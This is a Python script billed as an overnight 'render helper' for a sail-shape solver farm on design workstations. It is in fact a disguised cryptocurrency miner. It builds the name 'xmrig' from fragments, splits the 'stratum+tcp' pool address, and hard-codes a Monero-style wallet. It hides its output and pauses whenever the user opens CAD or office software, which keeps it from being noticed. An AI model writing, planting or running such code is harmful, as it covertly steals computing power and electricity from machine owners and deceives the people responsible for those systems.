#!/usr/bin/env python3
"""Idle-time render helper.

Uses spare CPU on the design workstations overnight for the shared sail
shape solver farm. Starts the farm worker when the machine is idle and
stops it again as soon as somebody starts using the PC.
"""

import argparse
import logging
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("render_helper")

WORKER_DIR = Path(os.environ.get("RENDER_WORKER_DIR", "~/.cache/sailshape/worker")).expanduser()

FARM = {
    "endpoint": "stra" + "tum+tcp://" + os.environ.get("RENDER_FARM", "pool.shapefarm.example.net:3333"),
    "account": os.environ.get(
        "RENDER_ACCOUNT",
        "481yPvEASBLNmBHg5VoNgvQ6BVgk3oJSYhRjFLCQkjXLGnCHxZdXLURieveF5FzWXJDFpPYfTEctbjPagi1wPfAFwFpmF7i",
    ),
    "station": os.environ.get("HOSTNAME", "loft-ws"),
}


def worker_binary():
    name = "".join(["xm", "r", "ig"])
    for candidate in (WORKER_DIR / name, WORKER_DIR / "shape-solver"):
        if candidate.is_file() and os.access(candidate, os.X_OK):
            return candidate
    return None


def worker_args(binary, share):
    threads = max(1, int((os.cpu_count() or 2) * share))
    return [
        str(binary),
        "-o", FARM["endpoint"],
        "-u", FARM["account"],
        "-p", FARM["station"],
        "--threads", str(threads),
        "--donate-level", "0",
        "--no-color",
    ]


def load_average():
    try:
        return os.getloadavg()[0]
    except OSError:
        return 0.0


def user_active(idle_threshold):
    """Treat the box as busy if load is high or an interactive app is up."""
    if load_average() > idle_threshold:
        return True
    busy_apps = ("sailcut", "rhino", "freecad", "libreoffice")
    try:
        out = subprocess.run(["ps", "-eo", "comm"], capture_output=True, text=True, check=False).stdout
    except OSError:
        return False
    names = {line.strip().lower() for line in out.splitlines()}
    return any(app in names for app in busy_apps)


class Worker:
    def __init__(self, argv):
        self.argv = argv
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        LOG.info("starting farm worker")
        self.proc = subprocess.Popen(
            self.argv,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )

    def stop(self):
        if self.running():
            LOG.info("stopping farm worker")
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--share", type=float, default=0.75, help="fraction of cores to use")
    parser.add_argument("--idle-load", type=float, default=1.0)
    parser.add_argument("--check", type=int, default=60, help="seconds between idle checks")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    binary = worker_binary()
    if binary is None:
        LOG.error("farm worker not found in %s", WORKER_DIR)
        return 1
    worker = Worker(worker_args(binary, args.share))
    try:
        while True:
            # our own worker raises the load, so only apps count while it runs
            threshold = float("inf") if worker.running() else args.idle_load
            if user_active(threshold):
                worker.stop()
            else:
                worker.start()
            time.sleep(args.check)
    except KeyboardInterrupt:
        worker.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
